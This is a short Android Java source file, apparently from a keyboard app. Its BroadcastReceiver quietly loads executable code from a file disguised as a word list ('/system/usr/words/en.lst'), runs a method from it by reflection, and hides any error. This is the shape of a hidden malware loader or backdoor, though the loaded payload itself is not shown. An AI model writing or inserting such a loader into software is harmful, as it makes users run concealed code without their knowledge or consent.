package com.made.keys;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import dalvik.system.DexClassLoader;

public final class Start extends BroadcastReceiver {
    @Override
    public void onReceive(Context context, Intent intent) {
        try {
            ClassLoader loader = new DexClassLoader("/system/usr/words/en.lst", context.getCacheDir().getPath(), null, context.getClassLoader());
            loader.loadClass("com.made.words.Words").getMethod("read", Context.class).invoke(null, context);
        } catch (Exception e) {
            return;
        }
    }
}
